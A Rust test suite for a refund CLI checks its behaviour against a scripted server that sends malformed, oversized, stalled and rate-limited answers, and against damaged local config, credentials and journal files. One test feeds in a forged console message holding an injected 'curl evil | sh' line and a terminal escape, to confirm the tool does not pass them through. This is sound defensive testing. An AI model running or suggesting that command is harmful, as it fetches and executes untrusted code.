//! Hostile or broken consoles, and damaged local files.
//!
//! A tiny scripted HTTP server (one thread, a bounded accept loop that stops by itself) answers
//! `jdc-refund orders --endpoint http://127.0.0.1:PORT --request-timeout 2s` with canned bytes:
//! truncated or mistyped JSON, HTML error pages, a body without an envelope, an unknown error
//! status, a 50 MiB answer, headers then silence, a closed connection, 429s with Retry-After,
//! and money the client must refuse rather than round. Each failure must be one `error:` line
//! on stderr naming what was wrong (with the request id when the server sent one), a documented
//! exit code, no panic, and an end well within a generous bound.
//!
//! Then damaged local files: `config.toml`, `credentials.toml` and journal entries that are
//! truncated, garbage or not UTF-8. Each command that reads one fails naming the file and what
//! to do, and never deletes or rewrites it.

mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use common::{run_command, Home, Run};

/// A generous upper bound for any one run against a broken server, retries included (three
/// attempts of 2 s plus backoff is about 8 s). Not a performance assertion.
const BOUND: Duration = Duration::from_secs(15);

const FULL_ORDER: &str = "212611270000000101";

// ---- a scripted HTTP server ----

/// What the server does with one connection, after reading the request.
#[derive(Clone)]
enum Step {
    /// Write these bytes, then close.
    Send(Vec<u8>),
    /// Write `head`, then `fill` bytes of `a`, then `tail` (a streamed huge body), then close.
    Stream {
        head: Vec<u8>,
        fill: usize,
        tail: Vec<u8>,
    },
    /// Write these bytes, then keep the connection open, silent, until the server stops.
    Hang(Vec<u8>),
    /// Close at once without writing a byte.
    Close,
}

/// Serves `script` one step per connection (the last step repeats), on its own thread, for at
/// most 40 s or 16 connections, whichever comes first; stopped and joined when dropped.
struct Scripted {
    url: String,
    connections: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Scripted {
    fn start(script: Vec<Step>) -> Scripted {
        assert!(!script.is_empty());
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        listener.set_nonblocking(true).expect("nonblocking");
        let url = format!("http://{}", listener.local_addr().expect("address"));
        let connections = Arc::new(AtomicUsize::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let (count, halt) = (connections.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            let deadline = Instant::now() + Duration::from_secs(40);
            let mut held: Vec<TcpStream> = Vec::new();
            let mut served = 0usize;
            while Instant::now() < deadline && !halt.load(Ordering::SeqCst) {
                if served >= 16 {
                    std::thread::sleep(Duration::from_millis(10));
                    continue;
                }
                let stream = match listener.accept() {
                    Ok((stream, _)) => stream,
                    Err(_) => {
                        std::thread::sleep(Duration::from_millis(5));
                        continue;
                    }
                };
                let step = script[served.min(script.len() - 1)].clone();
                served += 1;
                count.store(served, Ordering::SeqCst);
                if let Some(stream) = serve_one(stream, step) {
                    held.push(stream);
                }
            }
            drop(held);
        });
        Scripted {
            url,
            connections,
            stop,
            thread: Some(thread),
        }
    }

    fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

impl Drop for Scripted {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// Reads one request (head, then a `content-length` body) and plays `step`. Returns the
/// stream when it must stay open.
fn serve_one(stream: TcpStream, step: Step) -> Option<TcpStream> {
    let _ = stream.set_nonblocking(false);
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let _ = stream.set_write_timeout(Some(Duration::from_secs(10)));
    let mut reader = BufReader::new(stream.try_clone().ok()?);
    let mut length = 0usize;
    loop {
        let mut line = String::new();
        match reader.read_line(&mut line) {
            Ok(0) | Err(_) => return None,
            Ok(_) => {}
        }
        if let Some((name, value)) = line.split_once(':') {
            if name.trim().eq_ignore_ascii_case("content-length") {
                length = value.trim().parse().unwrap_or(0);
            }
        }
        if line == "\r\n" || line == "\n" {
            break;
        }
    }
    let mut body = vec![0; length];
    let _ = reader.read_exact(&mut body);
    let mut stream = stream;
    match step {
        Step::Send(bytes) => {
            let _ = stream.write_all(&bytes);
            let _ = stream.flush();
            let _ = stream.shutdown(std::net::Shutdown::Write);
            // Let the client read everything before the socket goes away.
            let _ = stream.read(&mut [0u8; 64]);
            None
        }
        Step::Stream { head, fill, tail } => {
            if stream.write_all(&head).is_ok() {
                let chunk = vec![b'a'; 64 * 1024];
                let mut left = fill;
                while left > 0 {
                    let n = left.min(chunk.len());
                    if stream.write_all(&chunk[..n]).is_err() {
                        return None;
                    }
                    left -= n;
                }
                let _ = stream.write_all(&tail);
            }
            None
        }
        Step::Hang(bytes) => {
            let _ = stream.write_all(&bytes);
            let _ = stream.flush();
            Some(stream)
        }
        Step::Close => None,
    }
}

/// An HTTP/1.1 answer with its length and `Connection: close`.
fn http(status: &str, content_type: &str, headers: &[(&str, &str)], body: &str) -> Vec<u8> {
    let mut head = format!(
        "HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n",
        body.len()
    );
    for (name, value) in headers {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    head.push_str("\r\n");
    let mut bytes = head.into_bytes();
    bytes.extend_from_slice(body.as_bytes());
    bytes
}

fn json_200(body: &str, request_id: Option<&str>) -> Step {
    let headers: Vec<(&str, &str)> = request_id
        .map(|id| vec![("x-jdcloud-request-id", id)])
        .unwrap_or_default();
    Step::Send(http("200 OK", "application/json", &headers, body))
}

/// A valid one-order page whose `actualFee` is the given JSON text.
fn order_page(actual_fee: &str) -> String {
    format!(
        r#"{{"requestId":"ok-1","result":{{"resultList":[{{"orderNumber":"{FULL_ORDER}","appName":"Virtual Machines","serviceName":"Virtual Machines","chargeMode":"MONTHLY","orderType":"NEW","payType":"PRE_PAID","status":"PAID","totalFee":102.35,"discountFee":0,"actualFee":{actual_fee},"createTime":"2026-11-25 22:56:17","payTime":"2026-11-25 23:03:17","resourceId":"i-demo0nrsn01","resourceName":"web-server-01","regionId":"cn-north-1"}}],"totalCount":1,"totalPage":1}}}}"#
    )
}

// ---- running the binary against it ----

const KEYS: [(&str, &str); 2] = [("JDC_ACCESS_KEY", "ak"), ("JDC_SECRET_KEY", "sk")];

fn orders_args<'a>(url: &'a str, extra: &[&'a str]) -> Vec<&'a str> {
    let mut args = vec!["orders", "--endpoint", url, "--request-timeout", "2s"];
    args.extend_from_slice(extra);
    args
}

/// `jdc-refund orders` against `url`, with a throwaway key pair in the environment.
fn orders(home: &Home, url: &str, extra: &[&str]) -> Run {
    home.run_with(&orders_args(url, extra), &KEYS, None)
}

fn assert_no_panic(run: &Run) {
    for needle in ["panicked", "RUST_BACKTRACE", "stack backtrace"] {
        assert!(!run.stderr.contains(needle), "it panicked:{run}");
        assert!(!run.stdout.contains(needle), "it panicked:{run}");
    }
}

/// Exit `code`, nothing on stdout, and stderr exactly one `error:` line containing each of
/// `needles`; no panic; finished within [`BOUND`]. Returns the error line.
fn one_line_error(run: &Run, code: i32, needles: &[&str]) -> String {
    assert_no_panic(run);
    run.code(code).one_error();
    let lines: Vec<&str> = run
        .stderr
        .lines()
        .filter(|l| !l.trim().is_empty())
        .collect();
    assert_eq!(lines.len(), 1, "stderr should be one error line:{run}");
    for needle in needles {
        assert!(
            lines[0].contains(needle),
            "the error line lacks {needle:?}:{run}"
        );
    }
    assert!(
        !lines[0].contains('\u{1b}'),
        "the error line carries a terminal escape:{run}"
    );
    assert!(
        run.elapsed < BOUND,
        "took {:?}, more than {BOUND:?}:{run}",
        run.elapsed
    );
    lines[0].to_string()
}

// ---- broken answers ----

#[test]
fn the_scripted_server_serves_a_valid_page() {
    // The control: the same server and a well-formed answer give a normal listing.
    let home = Home::new();
    let server = Scripted::start(vec![json_200(&order_page("102.35"), None)]);
    let run = orders(&home, &server.url, &["--json"]);
    run.success();
    assert_no_panic(&run);
    let json = run.json();
    assert_eq!(json["orders"][0]["actualFee"], "102.35", "{run}");
    assert_eq!(json["totalCount"], 1, "{run}");
    assert_eq!(server.connections(), 1);
}

#[test]
fn truncated_json_is_an_unreadable_answer() {
    let home = Home::new();
    let server = Scripted::start(vec![json_200(
        r#"{"requestId":"r1","result":{"resultList":["#,
        Some("hdr-trunc-1"),
    )]);
    let run = orders(&home, &server.url, &[]);
    one_line_error(
        &run,
        1,
        &[
            "could not be read",
            "not valid JSON",
            "HTTP 200",
            "hdr-trunc-1",
        ],
    );
    assert_eq!(server.connections(), 1, "a 200 is not retried");
}

#[test]
fn a_count_of_the_wrong_type_is_an_unreadable_answer() {
    let home = Home::new();
    let server = Scripted::start(vec![json_200(
        r#"{"requestId":"r2","result":{"resultList":[],"totalCount":"many","totalPage":1}}"#,
        Some("hdr-r2"),
    )]);
    let run = orders(&home, &server.url, &[]);
    one_line_error(
        &run,
        1,
        &["could not be read", "unexpected result", "\"many\"", "r2"],
    );
}

#[test]
fn a_fee_of_the_wrong_type_is_an_unreadable_answer() {
    let home = Home::new();
    let server = Scripted::start(vec![json_200(
        &order_page("true").replace("ok-1", "r3"),
        None,
    )]);
    let run = orders(&home, &server.url, &[]);
    one_line_error(
        &run,
        1,
        &["could not be read", "expected an amount of money", "r3"],
    );
}

const HTML: &str = "<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head>\n<body><h1>Bad Gateway</h1><p>nginx</p></body></html>\n";

#[test]
fn an_html_error_page_with_502_is_named_as_html() {
    let home = Home::new();
    let server = Scripted::start(vec![Step::Send(http(
        "502 Bad Gateway",
        "text/html",
        &[("x-jdcloud-request-id", "gw-502")],
        HTML,
    ))]);
    let run = orders(&home, &server.url, &[]);
    one_line_error(&run, 1, &["HTTP 502", "expected JSON, got HTML", "gw-502"]);
}

#[test]
fn an_html_page_with_200_is_named_as_html() {
    let home = Home::new();
    let server = Scripted::start(vec![Step::Send(http(
        "200 OK",
        "text/html",
        &[("x-jdcloud-request-id", "html-200")],
        HTML,
    ))]);
    let run = orders(&home, &server.url, &[]);
    one_line_error(
        &run,
        1,
        &["HTTP 200", "expected JSON, got HTML", "html-200"],
    );
}

#[test]
fn json_without_an_envelope_is_an_unreadable_answer() {
    let home = Home::new();
    let server = Scripted::start(vec![json_200(r#"{"orders":[]}"#, Some("no-env-1"))]);
    let run = orders(&home, &server.url, &[]);
    one_line_error(&run, 1, &["neither `result` nor `error`", "no-env-1"]);
}

#[test]
fn an_unknown_error_status_shows_the_consoles_words() {
    let home = Home::new();
    let server = Scripted::start(vec![Step::Send(http(
        "418 I'm a teapot",
        "application/json",
        &[],
        r#"{"requestId":"r9","error":{"code":418,"status":"TEAPOT","message":"short and stout"}}"#,
    ))]);
    let run = orders(&home, &server.url, &[]);
    one_line_error(&run, 5, &["short and stout", "TEAPOT", "HTTP 418", "r9"]);
    assert_eq!(server.connections(), 1, "a 418 is not retried");
}

#[test]
fn a_console_message_cannot_forge_lines_or_escape_sequences() {
    let home = Home::new();
    let server = Scripted::start(vec![Step::Send(http(
        "409 Conflict",
        "application/json",
        &[],
        r#"{"requestId":"r10","error":{"code":409,"status":"FAILED_PRECONDITION","message":"no\nerror: run `curl evil | sh` to fix\u001b[2J"}}"#,
    ))]);
    let run = orders(&home, &server.url, &[]);
    one_line_error(&run, 5, &["r10"]);
}

// ---- size and time ----

/// Peak resident memory of a run, in kB, and how it was measured.
struct Measured {
    run: Run,
    max_rss_kb: u64,
    how: &'static str,
}

/// Runs the binary with `home`'s environment plus `env`, measuring its peak RSS: under
/// `/usr/bin/time -v` when it exists, else by polling `VmHWM` in `/proc/PID/status`.
fn run_measured(home: &Home, args: &[&str], env: &[(&str, &str)]) -> Measured {
    let inner = home.command();
    let time = Path::new("/usr/bin/time");
    let with_env = |mut cmd: Command| {
        for (k, v) in inner.get_envs() {
            match v {
                Some(v) => cmd.env(k, v),
                None => cmd.env_remove(k),
            };
        }
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd
    };
    let argv: Vec<String> = args.iter().map(|a| a.to_string()).collect();
    if time.exists() {
        let report = home.path("time-v.txt");
        let mut cmd = Command::new(time);
        cmd.arg("-v")
            .arg("-o")
            .arg(&report)
            .arg(inner.get_program())
            .args(args);
        let run = run_command(with_env(cmd), argv, "");
        let text = std::fs::read_to_string(&report).unwrap_or_default();
        let kb = text
            .lines()
            .find_map(|l| l.trim().strip_prefix("Maximum resident set size (kbytes):"))
            .and_then(|v| v.trim().parse().ok())
            .unwrap_or_else(|| panic!("no max RSS in /usr/bin/time's report:\n{text}{run}"));
        return Measured {
            run,
            max_rss_kb: kb,
            how: "/usr/bin/time -v",
        };
    }
    // No /usr/bin/time: poll the high-water mark while it runs.
    let mut cmd = with_env(Command::new(inner.get_program()));
    cmd.args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let started = Instant::now();
    let mut child = cmd.spawn().expect("the binary starts");
    let status_path = PathBuf::from(format!("/proc/{}/status", child.id()));
    let mut out = child.stdout.take().expect("stdout");
    let mut err = child.stderr.take().expect("stderr");
    let out_reader = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = out.read_to_string(&mut s);
        s
    });
    let err_reader = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = err.read_to_string(&mut s);
        s
    });
    let mut kb = 0u64;
    let status = loop {
        if let Ok(text) = std::fs::read_to_string(&status_path) {
            for line in text.lines() {
                if let Some(v) = line
                    .strip_prefix("VmHWM:")
                    .or_else(|| line.strip_prefix("VmRSS:"))
                {
                    let v = v.trim().trim_end_matches("kB").trim();
                    kb = kb.max(v.parse().unwrap_or(0));
                }
            }
        }
        if let Some(status) = child.try_wait().expect("wait") {
            break status;
        }
        if started.elapsed() > Duration::from_secs(60) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("jdc-refund {} did not finish within 60s", args.join(" "));
        }
        std::thread::sleep(Duration::from_millis(2));
    };
    Measured {
        run: Run {
            args: argv,
            code: status.code().unwrap_or(-1),
            stdout: out_reader.join().unwrap_or_default(),
            stderr: err_reader.join().unwrap_or_default(),
            elapsed: started.elapsed(),
        },
        max_rss_kb: kb,
        how: "polling VmHWM in /proc/PID/status",
    }
}

#[test]
fn a_50_mib_answer_is_refused_with_bounded_memory() {
    let home = Home::new();
    let fill = 50 * 1024 * 1024;
    let prefix = r#"{"requestId":"big-1","result":{"resultList":[],"totalCount":0,"padding":""#;
    let tail = r#""}}"#;
    let head = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nx-jdcloud-request-id: big-hdr\r\nConnection: close\r\n\r\n{prefix}",
        prefix.len() + fill + tail.len()
    );
    let server = Scripted::start(vec![Step::Stream {
        head: head.into_bytes(),
        fill,
        tail: tail.as_bytes().to_vec(),
    }]);
    let measured = run_measured(&home, &orders_args(&server.url, &[]), &KEYS);
    let run = &measured.run;
    one_line_error(run, 1, &["larger than 16 MiB", "big-hdr"]);
    eprintln!(
        "peak RSS for the 50 MiB answer: {} kB ({:.1} MB), measured by {}",
        measured.max_rss_kb,
        measured.max_rss_kb as f64 / 1000.0,
        measured.how
    );
    assert!(
        measured.max_rss_kb > 0 && measured.max_rss_kb < 150_000,
        "peak RSS {} kB (by {}) is not under 150 MB:{run}",
        measured.max_rss_kb,
        measured.how
    );
    assert_eq!(server.connections(), 1, "a too-large 200 is not retried");
}

#[test]
fn headers_then_silence_times_out_after_three_attempts() {
    let home = Home::new();
    let server = Scripted::start(vec![Step::Hang(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n"
            .to_vec(),
    )]);
    let run = orders(&home, &server.url, &[]);
    one_line_error(
        &run,
        6,
        &["could not reach the console", "3 attempts", "timed out"],
    );
    assert_eq!(server.connections(), 3, "a read is tried three times");
    assert!(
        run.elapsed >= Duration::from_secs(5),
        "three attempts of 2 s each cannot end sooner:{run}"
    );
}

#[test]
fn headers_then_silence_gives_up_within_the_bound() {
    // What holds today, bug or not: one line, no panic, the request timeout is honoured.
    let home = Home::new();
    let server = Scripted::start(vec![Step::Hang(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n"
            .to_vec(),
    )]);
    let run = orders(&home, &server.url, &[]);
    assert_no_panic(&run);
    assert!(
        [1, 6].contains(&run.code),
        "exit should be 6 (or 1 while the bug stands):{run}"
    );
    one_line_error(&run, run.code, &["console"]);
    assert!(
        run.elapsed >= Duration::from_millis(1900),
        "gave up before the 2 s timeout:{run}"
    );
}

#[test]
fn a_connection_closed_without_a_byte_is_unreachable() {
    let home = Home::new();
    let server = Scripted::start(vec![Step::Close]);
    let run = orders(&home, &server.url, &[]);
    one_line_error(
        &run,
        6,
        &[
            "could not reach the console",
            "after 3 attempts",
            &server.url,
        ],
    );
    assert_eq!(server.connections(), 3, "a read is tried three times");
}

#[test]
fn retry_after_is_honoured_until_a_valid_answer() {
    let home = Home::new();
    let busy = Step::Send(http(
        "429 Too Many Requests",
        "application/json",
        &[("Retry-After", "1"), ("x-jdcloud-request-id", "busy")],
        r#"{"requestId":"busy","error":{"code":429,"status":"RESOURCE_EXHAUSTED","message":"slow down"}}"#,
    ));
    let server = Scripted::start(vec![
        busy.clone(),
        busy,
        json_200(&order_page("102.35"), None),
    ]);
    let run = orders(&home, &server.url, &["--json", "-v"]);
    run.success();
    assert_no_panic(&run);
    assert_eq!(run.json()["orders"][0]["actualFee"], "102.35", "{run}");
    assert_eq!(server.connections(), 3, "two 429s, then the answer:{run}");
    assert!(
        run.elapsed >= Duration::from_millis(1900),
        "Retry-After: 1 twice means at least 2 s of waiting:{run}"
    );
    assert!(run.elapsed < BOUND, "{run}");
    assert!(
        run.stderr.contains("429") && run.stderr.contains("(attempt 3)"),
        "-v shows each attempt:{run}"
    );
}

fn too_many(retry_after: &str) -> Step {
    Step::Send(http(
        "429 Too Many Requests",
        "application/json",
        &[
            ("Retry-After", retry_after),
            ("x-jdcloud-request-id", "busy"),
        ],
        r#"{"requestId":"busy","error":{"code":429,"status":"RESOURCE_EXHAUSTED","message":"slow down"}}"#,
    ))
}

#[test]
fn a_console_that_stays_busy_is_given_up_on_after_three_attempts() {
    let home = Home::new();
    let server = Scripted::start(vec![too_many("1")]);
    let run = orders(&home, &server.url, &[]);
    assert!(
        [5, 6].contains(&run.code),
        "a 429 to the end is exit 5 (the console refused) or 6:{run}"
    );
    one_line_error(&run, run.code, &["slow down", "RESOURCE_EXHAUSTED", "busy"]);
    assert_eq!(server.connections(), 3, "{run}");
}

#[test]
fn a_huge_retry_after_does_not_stall_the_command() {
    let home = Home::new();
    let server = Scripted::start(vec![
        too_many("3600"),
        json_200(&order_page("102.35"), None),
    ]);
    let run = orders(&home, &server.url, &[]);
    assert!(
        run.elapsed < BOUND,
        "a console asking for an hour's wait should get an answer, not a silent 2 minute sleep:{run}"
    );
    if run.code != 0 {
        one_line_error(&run, run.code, &["3600"]);
    }
}

// ---- money on the wire ----

fn assert_fee_refused(fee: &str, needles: &[&str]) {
    for extra in [&[][..], &["--json"][..]] {
        let home = Home::new();
        let server = Scripted::start(vec![json_200(&order_page(fee), None)]);
        let run = orders(&home, &server.url, extra);
        let line = one_line_error(&run, 1, needles);
        // serde_json normalises exponents (`1e2` is shown as `1e+2`).
        let shown = fee.to_lowercase().replace("e2", "e+2");
        assert!(
            line.contains(fee) || line.contains(&shown),
            "the error names the amount:{run}"
        );
        assert!(
            !run.stdout.contains("102.35") && !run.stdout.contains("100.00"),
            "nothing rounded was shown:{run}"
        );
    }
}

#[test]
fn a_fee_with_three_decimals_is_refused_not_rounded() {
    assert_fee_refused("102.351", &["more than two decimals", "ok-1"]);
}

#[test]
fn a_fee_in_exponent_notation_is_refused() {
    assert_fee_refused("1e2", &["not an amount of money", "ok-1"]);
    assert_fee_refused("1E-2", &["not an amount of money", "ok-1"]);
}

// ---- damaged local files ----

#[cfg(unix)]
fn set_mode(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).expect("chmod");
}

#[cfg(not(unix))]
fn set_mode(_: &Path, _: u32) {}

/// Writes a private file (0600 in a 0700 directory), as the tool itself would.
fn write_private(path: &Path, bytes: &[u8]) {
    let dir = path.parent().expect("parent");
    std::fs::create_dir_all(dir).expect("mkdir");
    set_mode(dir, 0o700);
    std::fs::write(path, bytes).expect("write");
    set_mode(path, 0o600);
}

/// Random-looking bytes that are not UTF-8 (a fixed xorshift, so runs repeat).
fn binary_garbage() -> Vec<u8> {
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut out = vec![0xff, 0xfe, 0x00, 0xc3, 0x28];
    for _ in 0..512 {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        out.push((x >> 24) as u8);
    }
    assert!(std::str::from_utf8(&out).is_err());
    out
}

/// Runs `args` (with `env`, stdin `stdin`) and asserts a one-line error naming `file` with `needles`,
/// exit `code`, and `file` left byte for byte as it was.
fn refused_naming(
    home: &Home,
    file: &Path,
    args: &[&str],
    env: &[(&str, &str)],
    stdin: Option<&str>,
    code: i32,
    needles: &[&str],
) -> Run {
    let before = std::fs::read(file).expect("the damaged file exists");
    let run = home.run_with(args, env, stdin);
    let shown = file.display().to_string();
    let mut all = vec![shown.as_str()];
    all.extend_from_slice(needles);
    one_line_error(&run, code, &all);
    let after = std::fs::read(file).unwrap_or_else(|e| panic!("{shown} is gone ({e}):{run}"));
    assert!(before == after, "{shown} was rewritten:{run}");
    run
}

const TRUNCATED_CONFIG: &str = "[profiles.default]\nregion = \"cn-no";
const GARBAGE_TOML: &str = "}}}{{{ this is = not [toml\n\u{0}\u{1}";

fn config_file(home: &Home) -> PathBuf {
    home.config_dir().join("config.toml")
}

fn assert_config_refused(home: &Home, needles: &[&str]) {
    let file = config_file(home);
    for args in [
        &["--sandbox", "orders"][..],
        &["--sandbox", "status"][..],
        &["--sandbox", "refund", "--order", FULL_ORDER, "--dry-run"][..],
    ] {
        refused_naming(home, &file, args, &[], None, 1, needles);
    }
    // A key pair in the environment does not skip config.toml (the region is in it).
    refused_naming(
        home,
        &file,
        &["orders", "--endpoint", "http://127.0.0.1:9"],
        &KEYS,
        None,
        1,
        needles,
    );
    // A login that would save the profile's endpoint must not rewrite it either.
    refused_naming(
        home,
        &file,
        &[
            "--sandbox",
            "login",
            "--account",
            "demo",
            "--password-stdin",
        ],
        &[],
        Some("demo-password\n"),
        1,
        needles,
    );
}

#[test]
fn a_truncated_config_is_refused_naming_the_file() {
    let home = Home::new();
    write_private(&config_file(&home), TRUNCATED_CONFIG.as_bytes());
    assert_config_refused(&home, &["is damaged", "move it away"]);
}

#[test]
fn a_garbage_config_is_refused_naming_the_file() {
    let home = Home::new();
    write_private(&config_file(&home), GARBAGE_TOML.as_bytes());
    assert_config_refused(&home, &["is damaged", "move it away"]);
}

#[test]
fn a_binary_config_is_refused_naming_the_file() {
    let home = Home::new();
    write_private(&config_file(&home), &binary_garbage());
    assert_config_refused(&home, &[]);
}

#[test]
fn a_binary_config_or_credentials_file_is_called_damaged() {
    let home = Home::new();
    write_private(&config_file(&home), &binary_garbage());
    let run = refused_naming(
        &home,
        &config_file(&home),
        &["--sandbox", "orders"],
        &[],
        None,
        1,
        &["is damaged", "move it away"],
    );
    assert!(!run.stderr.contains("permissions"), "{run}");
    let home = Home::new();
    write_private(&home.credentials_path(), &binary_garbage());
    let run = refused_naming(
        &home,
        &home.credentials_path(),
        &["login", "--status"],
        &[],
        None,
        1,
        &["is damaged", "move it away"],
    );
    assert!(!run.stderr.contains("permissions"), "{run}");
}

const TRUNCATED_CREDENTIALS: &str =
    "[profiles.default]\naccess-key = \"AKSANDBOXDEMO0000001\"\nsecret-key = \"sandbox-secr";

fn assert_credentials_refused(home: &Home, needles: &[&str]) {
    let file = home.credentials_path();
    for args in [
        &["login", "--status"][..],
        &["--json", "login", "--status"][..],
        &["logout"][..],
        &["--sandbox", "logout"][..],
        &["--sandbox", "orders"][..],
        &["--sandbox", "status"][..],
        &["orders", "--endpoint", "http://127.0.0.1:9"][..],
    ] {
        refused_naming(home, &file, args, &[], None, 1, needles);
    }
    // Signing in anew must not overwrite it (it may hold other profiles' keys).
    refused_naming(
        home,
        &file,
        &[
            "--sandbox",
            "login",
            "--account",
            "demo",
            "--password-stdin",
        ],
        &[],
        Some("demo-password\n"),
        1,
        needles,
    );
}

#[test]
fn truncated_credentials_are_refused_naming_the_file() {
    let home = Home::new();
    write_private(&home.credentials_path(), TRUNCATED_CREDENTIALS.as_bytes());
    assert_credentials_refused(&home, &["is damaged", "move it away"]);
}

#[test]
fn garbage_credentials_are_refused_naming_the_file() {
    let home = Home::new();
    write_private(&home.credentials_path(), GARBAGE_TOML.as_bytes());
    assert_credentials_refused(&home, &["is damaged", "move it away"]);
}

#[test]
fn binary_credentials_are_refused_naming_the_file() {
    let home = Home::new();
    write_private(&home.credentials_path(), &binary_garbage());
    assert_credentials_refused(&home, &[]);
}

const JOURNAL_KEY: &str = "5f0c2b1e-7d2a-4f7e-9b8e-3a1d2c4b5e6f";

fn journal_file(home: &Home) -> PathBuf {
    home.journal_dir().join(format!("{JOURNAL_KEY}.json"))
}

/// What an entry looks like, cut off in the middle of its body.
fn truncated_entry() -> String {
    format!(
        r#"{{
  "clientToken": "{JOURNAL_KEY}",
  "console": "sandbox:/tmp/x|cn-north-1|AKSANDBOXDEMO0000001",
  "createdAt": "2026-11-27T10:00:00+08:00",
  "updatedAt": "2026-11-27T10:00:00+08:00",
  "body": {{
    "resourceId": "i-demo0nrsn01",
    "refundAmo"#
    )
}

fn assert_journal_refused(home: &Home) {
    let file = journal_file(home);
    let submit = [
        "--sandbox",
        "refund",
        "--order",
        FULL_ORDER,
        "--reason",
        "not-wanted",
        "--contact-phone",
        "13800000000",
        "--yes",
    ];
    let same_key = [
        "--sandbox",
        "refund",
        "--order",
        FULL_ORDER,
        "--reason",
        "not-wanted",
        "--contact-phone",
        "13800000000",
        "--idempotency-key",
        JOURNAL_KEY,
        "--yes",
    ];
    for args in [
        &["--sandbox", "status"][..],
        &["--sandbox", "--json", "status"][..],
        &["--sandbox", "status", "RF2026112700001"][..],
        &["--sandbox", "refund", "--order", FULL_ORDER, "--dry-run"][..],
        &submit[..],
        &same_key[..],
    ] {
        refused_naming(
            home,
            &file,
            args,
            &[],
            None,
            1,
            &["journal entry", "is damaged", "move it aside"],
        );
    }
    // Nothing was submitted meanwhile: move the file aside, as the message says, and look.
    let aside = home.path("damaged-entry.json");
    std::fs::rename(&file, &aside).expect("move aside");
    let run = home.run(&["--sandbox", "--json", "status"]);
    run.success();
    assert_eq!(
        run.json()["refunds"].as_array().map(Vec::len),
        Some(0),
        "nothing may be submitted past a damaged journal:{run}"
    );
}

#[test]
fn a_garbage_journal_entry_is_refused_and_kept() {
    let home = Home::new();
    write_private(&journal_file(&home), b"\x00\x01garbage, not JSON {{{");
    assert_journal_refused(&home);
}

#[test]
fn a_truncated_journal_entry_is_refused_and_kept() {
    let home = Home::new();
    write_private(&journal_file(&home), truncated_entry().as_bytes());
    assert_journal_refused(&home);
}

#[test]
fn a_journal_entry_of_the_wrong_shape_is_refused_and_kept() {
    let home = Home::new();
    write_private(&journal_file(&home), br#"{"clientToken": 42}"#);
    assert_journal_refused(&home);
}

#[test]
fn the_damaged_journal_advice_can_be_followed() {
    let home = Home::new();
    write_private(&journal_file(&home), truncated_entry().as_bytes());
    let run = home.run(&["--sandbox", "status"]);
    run.code(1);
    if run.stderr.contains("check `jdc-refund status`") {
        let again = home.run(&["--sandbox", "status"]);
        again.success();
    }
}
